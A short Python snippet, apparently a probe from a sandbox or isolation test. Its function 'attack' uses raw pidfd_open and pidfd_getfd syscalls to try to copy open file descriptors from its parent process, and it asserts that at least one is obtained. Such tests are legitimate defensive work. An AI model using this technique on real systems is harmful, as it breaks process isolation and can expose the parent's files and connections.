def attack():
    import ctypes, os

    libc = ctypes.CDLL(None)
    fd = libc.syscall(434, os.getppid(), 0)
    assert fd >= 0 and any(libc.syscall(438, fd, n, 0) >= 0 for n in range(20))
    return True
